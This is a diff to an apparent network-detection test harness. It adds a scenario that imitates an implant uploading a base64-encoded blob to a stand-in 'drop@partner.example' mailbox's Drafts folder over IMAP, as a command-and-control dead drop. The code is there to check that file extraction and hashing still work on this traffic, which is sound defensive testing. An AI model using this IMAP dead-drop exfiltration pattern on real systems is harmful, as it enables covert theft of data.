@@ -352,6 +352,24 @@ class Run:
         c.expunge()
         c.logout()
 
+    # -- an implant uploads loot to Drafts as one base64 line of 8,000 characters: IMAP has no
+    # line limit and Dovecot stores it; the file's digest and extraction must not go blind.
+    def long_line_upload(self):
+        blob = bytes(random.Random(13).randrange(256) for _ in range(6000))
+        self.keep_sent("stash.bin", blob)
+        s = self.scenario("c2_imap_append_one_long_base64_line", "c2", "imap", 143, user="drop@partner.example",
+                          files={"stash.bin": hashlib.sha256(blob).hexdigest()})
+        raw = (b"From: drop@partner.example\r\nTo: drop@partner.example\r\nSubject: notes\r\n"
+               b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n"
+               b"--b1\r\nContent-Type: text/plain\r\n\r\nnotes\r\n"
+               b"--b1\r\nContent-Type: application/octet-stream\r\n"
+               b"Content-Disposition: attachment; filename=\"stash.bin\"\r\n"
+               b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.b64encode(blob) + b"\r\n--b1--\r\n")
+        c = BoundIMAP(s["src_ip"], SERVER)
+        c.login("drop@partner.example", PASSWORDS["drop@partner.example"])
+        c.append("Drafts", r"(\Draft)", None, raw)
+        c.logout()
+
     def odd_port(self):
         helo = "WIN-3K7Q9ZT1ABC"
         s = self.scenario("c2_smtp_odd_port", "c2", "smtp", 2626, helo=helo, mail_from="<drop@partner.example>",
@@ -377,7 +395,7 @@ class Run:
                      self.stealer_exfil, self.odd_port, self.encoded_header, self.fake_starttls,
                      lambda: wait_mail(self.state_dir, "bob@corp.example", 4),
                      self.imap_read, self.pop3_read, self.curl_imap_pop3, self.imap_pop3_starttls,
-                     self.pop3_polling, self.imap_dead_drop, self.attachment_paths):
+                     self.pop3_polling, self.imap_dead_drop, self.attachment_paths, self.long_line_upload):
             self.attempt(step)
 
 if __name__ == "__main__":
